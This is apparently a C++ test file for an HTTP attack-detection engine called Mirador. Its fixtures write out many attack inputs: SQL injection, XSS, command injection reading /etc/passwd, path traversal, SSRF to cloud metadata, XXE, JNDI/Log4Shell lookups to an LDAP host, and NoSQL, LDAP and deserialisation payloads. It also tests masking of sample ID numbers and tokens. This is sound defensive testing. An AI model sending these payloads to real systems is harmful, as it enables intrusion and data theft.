// The engine with the rules Mirador ships (detectors/rules): attacks found in every place a
// server reads input, ordinary API traffic left alone, sensitive values found with their
// locations and masked, smuggling signs, caps counted.
#include "detectors/engine/detection_engine.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

namespace mirador::detect {
namespace {

std::shared_ptr<const CompiledRules> shipped() {
  static std::shared_ptr<const CompiledRules> rules = load_compiled_rules("");
  return rules;
}

HttpTransaction request(std::string method, std::string uri, std::string body = {},
                        std::string content_type = {}) {
  HttpTransaction t;
  t.method = std::move(method);
  t.uri = std::move(uri);
  t.version = "1.1";
  t.request_headers.push_back({"Host", "api.example.com"});
  t.request_headers.push_back({"User-Agent", "okhttp/4.9.3"});
  if (!content_type.empty()) t.request_headers.push_back({"Content-Type", content_type});
  t.request_body = std::move(body);
  t.request_body_len = t.request_body.size();
  t.has_response = true;
  t.status = 200;
  return t;
}

const Finding* find(const std::vector<Finding>& fs, std::string_view risk_class) {
  for (const Finding& f : fs)
    if (f.risk_class == risk_class) return &f;
  return nullptr;
}

const Finding* find_data(const std::vector<Finding>& fs, std::string_view data_class) {
  for (const Finding& f : fs)
    if (f.kind == RuleKind::data && f.data_class == data_class) return &f;
  return nullptr;
}

size_t attack_count(const std::vector<Finding>& fs) {
  size_t n = 0;
  for (const Finding& f : fs) n += f.kind == RuleKind::attack;
  return n;
}

}  // namespace

TEST_CASE("attacks are found wherever the server reads input", "[engine]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  struct Case {
    const char* what;
    HttpTransaction t;
    const char* risk_class;
  };
  HttpTransaction cookie = request("GET", "/api/profile");
  cookie.request_headers.push_back({"Cookie", "session=abc; lang=en' OR 1=1-- -"});
  HttpTransaction header = request("GET", "/");
  header.request_headers.push_back({"X-Api-Version", "${jndi:ldap://198.18.0.9/a}"});
  Case cases[] = {
      {"numeric tautology", request("GET", "/api/products?id=1%20AND%201234=1234"),
       "sql_injection"},
      {"union select, double encoded",
       request("GET", "/api/products?q=x%2527%2520UNION%2520SELECT%2520NULL,NULL--"),
       "sql_injection"},
      {"mysql executable comment", request("GET", "/api/items?id=1/*!50000UNION*/SELECT%201,2"),
       "sql_injection"},
      {"time delay", request("GET", "/api/users/5'%20AND%20SLEEP(5)%23"), "sql_injection"},
      {"sqlite blind",
       request("GET",
               "/api/orders?user_id=1%20AND%201234=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/"
               "2))))"),
       "sql_injection"},
      {"json body",
       request("POST", "/api/login", R"({"username":"admin' OR '1'='1","password":"x"})",
               "application/json"),
       "sql_injection"},
      {"form body",
       request("POST", "/api/search",
               "q=shoes%27%20UNION%20ALL%20SELECT%20name%20FROM%20sqlite_master--",
               "application/x-www-form-urlencoded"),
       "sql_injection"},
      {"cookie", cookie, "sql_injection"},
      {"xss", request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss"},
      {"xss entity encoded",
       request("GET", "/c?text=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B"), "xss"},
      {"command", request("GET", "/ping?host=198.18.0.1;cat%20/etc/passwd"), "command_injection"},
      {"command substitution",
       request("POST", "/dns", R"({"name":"$(whoami).x"})", "application/json"),
       "command_injection"},
      {"traversal", request("GET", "/download?file=..%2f..%2f..%2fetc%2fpasswd"), "path_traversal"},
      {"overlong traversal", request("GET", "/static/..%c0%af..%c0%afwindows/win.ini"),
       "path_traversal"},
      {"ssrf metadata",
       request("POST", "/webhook", R"({"url":"http://169.254.169.254/latest/meta-data/"})",
               "application/json"),
       "ssrf"},
      {"ssrf loopback", request("GET", "/fetch?url=http://127.0.0.1:6379/"), "ssrf"},
      {"xxe",
       request("POST", "/import",
               "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
               "\"file:///etc/passwd\">]><r>&x;</r>",
               "application/xml"),
       "xxe"},
      {"ssti", request("GET", "/hello?name={{7*7}}"), "template_injection"},
      {"jndi header", header, "jndi_injection"},
      {"jndi obfuscated", request("GET", "/?q=${${lower:j}ndi:ldap://x/a}"), "jndi_injection"},
      {"nosql operator in a name", request("GET", "/api/users?username[$ne]=x&password[$ne]=x"),
       "nosql_injection"},
      {"nosql operator as a JSON key",
       request("POST", "/api/login", R"({"username":{"$gt":""},"password":{"$gt":""}})",
               "application/json"),
       "nosql_injection"},
      {"ldap", request("GET", "/directory?user=*)(uid=*))(|(uid=*"), "ldap_injection"},
      {"java serialised",
       request("POST", "/rpc",
               "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "application/octet-stream"),
       "deserialization"},
      {"php serialised", request("GET", "/cart?data=O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}"),
       "deserialization"},
  };
  for (Case& c : cases) {
    INFO(c.what);
    const std::vector<Finding>& fs = engine.inspect(c.t);
    const Finding* f = find(fs, c.risk_class);
    REQUIRE(f != nullptr);
    CHECK(f->kind == RuleKind::attack);
    CHECK(!f->rule_ids.empty());
    CHECK(!f->locations.empty());
    CHECK(f->count >= 1);
    CHECK(f->owasp_api.size() == 9);  // "API8:2023"
    CHECK(f->severity >= Severity::low);
  }
}

TEST_CASE("ordinary API traffic raises no attack finding", "[engine]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  HttpTransaction browser = request("GET", "/api/products?category=shoes&page=2&sort=-price");
  browser.request_headers.push_back(
      {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"});
  browser.request_headers.push_back({"Cookie", "sid=7f3a9c; prefs={\"a\":1,\"b\":[\"x\",\"y\"]}"});
  browser.request_headers.push_back(
      {"User-Agent",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"});
  HttpTransaction cases[] = {
      browser,
      request("GET", "/api/search?q=select+a+plan"),
      request("GET", "/api/search?q=union+station+parking"),
      request("GET", "/api/search?q=drop-off+point+near+me"),
      request("GET", "/api/products?q=cat+food+%26+litter&order=price"),
      request("GET", "/api/search?q=where+is+my+order%3F"),
      request("GET", "/api/search?q=rock+%27n%27+roll"),
      request("GET", "/api/search?q=50%25+off+2+%3E+1+offers"),
      request("POST", "/api/users",
              R"({"name":"Siobhán O'Brien","bio":"I <3 hiking; call me!","tags":["a","b"]})",
              "application/json"),
      request("POST", "/api/orders",
              R"x({"note":"Leave at door (select one: front/back)","qty":2})x", "application/json"),
      request("POST", "/api/search", "q=D%27Angelo+%26+Sons&city=S%C3%A3o+Paulo",
              "application/x-www-form-urlencoded"),
      request("GET", "/api/redirect?next=https://www.example.org/account?tab=orders"),
      request("GET", "/api/files?path=reports/2024/q3.pdf"),
      request("POST", "/api/comments", R"({"text":"Use a=b and c=d, then 1 + 1 = 2 #math"})",
              "application/json"),
  };
  for (HttpTransaction& t : cases) {
    INFO(t.method << " " << t.uri << " " << t.request_body);
    const std::vector<Finding>& fs = engine.inspect(t);
    for (const Finding& f : fs) {
      if (f.kind == RuleKind::attack) FAIL_CHECK(f.id << " " << f.locations.front());
    }
    CHECK(attack_count(fs) == 0);
  }
}

TEST_CASE("sensitive values in a response are found, located and masked", "[engine]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  HttpTransaction t = request("GET", "/api/users?page=1");
  t.response_headers.push_back({"Content-Type", "application/json"});
  t.response_body =
      R"({"data":[{"id":1,"idCard":"11010519491231002X","phone":"13800138000"},)"
      R"({"id":2,"idCard":"110105194912310021","phone":"+8613912345678","email":"li.wei@example.com"}]})";
  t.response_body_len = t.response_body.size();
  const std::vector<Finding>& fs = engine.inspect(t);

  const Finding* id = find_data(fs, "cn_resident_id");
  REQUIRE(id != nullptr);
  CHECK(id->risk_class == "sensitive_data");
  CHECK(id->in_response);
  CHECK(id->count == 1);  // the second one has a wrong check digit
  REQUIRE(id->locations.size() == 1);
  CHECK(id->locations[0] == "response.body $.data[0].idCard");
  REQUIRE(id->samples.size() == 1);
  CHECK(id->samples[0].find("11010519491231002X") == std::string::npos);
  CHECK(id->owasp_api == "API3:2023");

  const Finding* phone = find_data(fs, "cn_mobile");
  REQUIRE(phone != nullptr);
  CHECK(phone->count == 2);
  CHECK(find_data(fs, "email") != nullptr);
  CHECK(engine.counters().validator_rejects >= 1);
}

TEST_CASE("digit strings that only look like identifiers are not reported", "[engine]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  HttpTransaction t = request("GET", "/api/orders");
  t.response_headers.push_back({"Content-Type", "application/json"});
  t.response_body =
      R"({"order_no":"202311280001234567890","ts":"13800138000123","amount":"6222020200112233445",)"
      R"("id":"110105194912310021"})";
  t.response_body_len = t.response_body.size();
  const std::vector<Finding>& fs = engine.inspect(t);
  CHECK(find_data(fs, "cn_mobile") == nullptr);
  CHECK(find_data(fs, "cn_resident_id") == nullptr);
}

TEST_CASE("request smuggling signs become a finding", "[engine]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  HttpTransaction t = request("POST", "/api/orders", "0\r\n\r\n");
  t.flag(HttpAnomaly::cl_and_te);
  const std::vector<Finding>& fs = engine.inspect(t);
  const Finding* f = find(fs, "request_smuggling");
  REQUIRE(f != nullptr);
  CHECK(f->id == "smuggling.cl_and_te");
  CHECK(engine.counters().smuggling_findings == 1);
}

namespace {
const Finding* evasion(const std::vector<Finding>& fs) {
  return find(fs, "evasion");
}
bool lists(const Finding* f, std::string_view rule_id) {
  return f && std::find(f->rule_ids.begin(), f->rule_ids.end(), rule_id) != f->rule_ids.end();
}
}  // namespace

TEST_CASE("evasion signs from the decoders become one finding", "[engine][evasion]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  HttpTransaction t = request("gEt", "/api/orders");
  t.flag(HttpEvasion::method_case);
  t.flag(HttpEvasion::tcp_overlap_conflict);
  t.flag(HttpAnomaly::obs_fold);
  const std::vector<Finding>& fs = engine.inspect(t);
  const Finding* f = evasion(fs);
  REQUIRE(f != nullptr);
  CHECK(f->kind == RuleKind::attack);
  CHECK(f->id == "evasion.tcp_overlap_conflict");  // the most severe names it
  CHECK(f->severity == Severity::high);
  CHECK(f->owasp_api == "API8:2023");
  CHECK(f->rule_ids == std::vector<std::string>{"evasion.tcp_overlap_conflict",
                                                "evasion.method_case", "evasion.header_folding"});
  CHECK(engine.counters().evasion_findings == 1);
  CHECK(engine.counters().evasions[static_cast<size_t>(Evasion::method_case)] == 1);
  CHECK(engine.counters().evasions[static_cast<size_t>(Evasion::te_obfuscated)] == 0);
  // A clean transaction: nothing.
  CHECK(evasion(engine.inspect(request("GET", "/api/orders?id=7"))) == nullptr);
  HttpTransaction b = request("POST", "/api/orders", "5\r\nhello");
  b.flag(HttpAnomaly::bad_chunk_size);
  CHECK(lists(evasion(engine.inspect(b)), "evasion.bad_chunk_size"));
}

TEST_CASE("an evasion finding below min_severity is counted, not reported", "[engine][evasion]") {
  DetectionConfig cfg;
  cfg.min_severity = Severity::high;
  DetectionEngine engine(shipped(), cfg);
  HttpTransaction t = request("gEt", "/api/orders");
  t.flag(HttpEvasion::method_case);  // medium
  CHECK(evasion(engine.inspect(t)) == nullptr);
  CHECK(engine.counters().below_min_severity == 1);
  t.flag(HttpEvasion::te_obfuscated);  // high: the finding lists both
  const Finding* f = evasion(engine.inspect(t));
  REQUIRE(f != nullptr);
  CHECK(f->rule_ids.size() == 2);
}

TEST_CASE("encodings that hide an attack are reported with it", "[engine][evasion]") {
  DetectionEngine engine(shipped(), DetectionConfig{});
  // The extractor decodes the query once (as the server): %2527 is still %27 after it.
  auto fs = engine.inspect(request("GET", "/search?q=1%2527%2520OR%2520%25271%2527%253D%25271"));
  CHECK(find(fs, "sql_injection") != nullptr);
  CHECK(lists(evasion(fs), "evasion.double_encoding"));
  fs = engine.inspect(request("GET", "/static/..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"));
  CHECK(find(fs, "path_traversal") != nullptr);
  CHECK(lists(evasion(fs), "evasion.overlong_utf8"));
  fs = engine.inspect(request("GET", "/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)"));
  CHECK(find(fs, "xss") != nullptr);
  CHECK(lists(evasion(fs), "evasion.unicode_fullwidth"));
  // %uXXXX (IIS) in the target: the extractor decodes it, the target as sent shows it.
  fs = engine.inspect(request("GET", "/search?q=1%u0027%u0020OR%u0020%u00271%u0027=%u00271"));
  CHECK(find(fs, "sql_injection") != nullptr);
  CHECK(lists(evasion(fs), "evasion.percent_u"));
  CHECK_FALSE(lists(evasion(engine.inspect(request("GET", "/a?u=%u00"))), "evasion.percent_u"));
  // Innocent uses: a nested URL encoded twice, full-width Japanese text; no finding.
  CHECK(engine.inspect(request("GET", "/go?next=%252Fhome%253Ftab%253D2")).empty());
  CHECK(engine.inspect(request("GET", "/s?q=%EF%BC%A1%EF%BC%A2%EF%BC%A3")).empty());
  // Overlong UTF-8 has no innocent use: reported each time, also when the memo saw the value.
  for (int i = 0; i < 2; ++i) {
    fs = engine.inspect(request("GET", "/a?name=report%c0%ae%c0%aepdf"));
    CHECK(lists(evasion(fs), "evasion.overlong_utf8"));
  }
}

TEST_CASE("caps: findings per transaction and fields scanned", "[engine]") {
  DetectionConfig cfg;
  cfg.max_findings = 1;
  DetectionEngine engine(shipped(), cfg);
  HttpTransaction t = request(
      "GET", "/x?a=%3Cscript%3E&b=..%2f..%2fetc%2fpasswd&c=1%20UNION%20SELECT%20NULL,NULL--");
  CHECK(engine.inspect(t).size() == 1);
  CHECK(engine.counters().findings_capped >= 2);

  DetectionConfig few;
  few.fields.max_fields = 3;
  DetectionEngine small(shipped(), few);
  small.inspect(t);
  CHECK(small.field_counters().fields_dropped > 0);
}

}  // namespace mirador::detect

namespace mirador::detect {

TEST_CASE("findings below detect.min_severity are counted, not reported", "[engine]") {
  HttpTransaction t = request("GET", "/api/me");
  t.request_headers.push_back({"Authorization", "Bearer 9f8a7c6b5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a"});
  DetectionEngine quiet(shipped(), DetectionConfig{});
  CHECK(find_data(quiet.inspect(t), "bearer_token") == nullptr);
  CHECK(quiet.counters().below_min_severity == 1);

  DetectionConfig all;
  all.min_severity = Severity::info;
  DetectionEngine verbose(shipped(), all);
  const Finding* f = find_data(verbose.inspect(t), "bearer_token");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::info);
  CHECK(f->locations == std::vector<std::string>{"request.header Authorization"});
  REQUIRE(f->samples.size() == 1);
  CHECK(f->samples[0].find("9f8a7c6b5d4e3f2a1b0c") == std::string::npos);
}

}  // namespace mirador::detect

namespace mirador::detect {

namespace {

// Every field of every finding, in order: what an event would carry.
std::string describe(const std::vector<Finding>& fs) {
  std::string out;
  for (const Finding& f : fs) {
    out += f.id + "|" + f.risk_class + "|" + f.data_class + "|" + std::to_string(f.count) + "|";
    for (const std::string& r : f.rule_ids) out += r + ",";
    out += "|";
    for (const std::string& l : f.locations) out += l + ",";
    out += "|";
    for (const std::string& s : f.samples) out += s + ",";
    out += "\n";
  }
  return out;
}

HttpTransaction user_list() {
  HttpTransaction t = request("GET", "/api/users?q=%27%20OR%201%3D1--");
  t.response_headers.push_back({"Content-Type", "application/json"});
  t.response_body =
      R"({"data":[{"name":"Li Wei","email":"li.wei@example.com","phone":"13800138000",)"
      R"("card":"6222 0212 3456 7891","role":"customer"},)"
      R"({"name":"Li Wei","email":"li.wei@example.com","phone":"13800138000",)"
      R"("card":"4111111111111111","role":"customer","idCard":"11010519491231002X"}]})";
  t.response_body_len = t.response_body.size();
  return t;
}

}  // namespace

TEST_CASE("the scan memo never changes a finding", "[engine][memo]") {
  DetectionConfig off;
  off.memo_slots = 0;
  DetectionEngine plain(shipped(), off);
  DetectionEngine memo(shipped(), DetectionConfig{});
  const HttpTransaction t = user_list();
  const std::string expected = describe(plain.inspect(t));
  REQUIRE(expected.find("email") != std::string::npos);
  REQUIRE(expected.find("cn_resident_id") != std::string::npos);
  REQUIRE(expected.find("sql_injection") != std::string::npos);
  // The first pass fills the memo, the next ones are answered from it.
  for (int pass = 0; pass < 3; ++pass) CHECK(describe(memo.inspect(t)) == expected);
  CHECK(memo.value_memo_counters().hits > 0);
  CHECK(memo.attack_memo_counters().hits > 0);
  CHECK(plain.counters().validator_rejects * 3 == memo.counters().validator_rejects);
}

TEST_CASE("values scanned together are matched as if scanned alone", "[engine]") {
  // A pattern that can run across the separator between gathered values ("x" ending one value,
  // "x y1" starting the next) must neither borrow a start from the value before nor lose the
  // match the value has on its own.
  RuleSet set;
  std::vector<RuleError> errors;
  parse_rules(
      "rules:\n"
      "  - id: d.xy\n"
      "    kind: data\n"
      "    class: xy\n"
      "    severity: high\n"
      "    owasp: API3:2023\n"
      "    patterns: ['x[\\sx]*y\\d']\n"
      "    where: [response.body]\n"
      "  - id: d.tail\n"
      "    kind: data\n"
      "    class: tail\n"
      "    severity: high\n"
      "    owasp: API3:2023\n"
      "    patterns: ['\\d{6}(?:[^0-9]|$)']\n"
      "    where: [response.body]\n",
      "t.yaml", set, errors);
  check_rules(set, errors);
  REQUIRE(errors.empty());
  std::shared_ptr<const CompiledRules> rules = CompiledRules::compile(std::move(set), errors);
  REQUIRE(rules);
  for (size_t slots : {size_t{0}, size_t{4096}}) {
    DetectionConfig cfg;
    cfg.memo_slots = slots;
    DetectionEngine engine(rules, cfg);
    HttpTransaction t = request("GET", "/x");
    t.response_headers.push_back({"Content-Type", "application/json"});
    t.response_body = R"({"a":"id 123456 ends in x","b":"x y1 on its own","c":"no","d":"123456"})";
    t.response_body_len = t.response_body.size();
    for (int pass = 0; pass < 2; ++pass) {
      const std::vector<Finding>& fs = engine.inspect(t);
      const Finding* xy = find_data(fs, "xy");
      REQUIRE(xy != nullptr);
      CHECK(xy->count == 1);
      REQUIRE(xy->locations.size() == 1);
      // Scanned together, "x\nx y1" starts in "a": "b" is scanned again on its own.
      CHECK(xy->locations[0] == "response.body $.b");
      const Finding* tail = find_data(fs, "tail");
      REQUIRE(tail != nullptr);
      // "id 123456 " and the last value, which ends the buffer: one match each, not two.
      CHECK(tail->count == 2);
    }
  }
}

}  // namespace mirador::detect
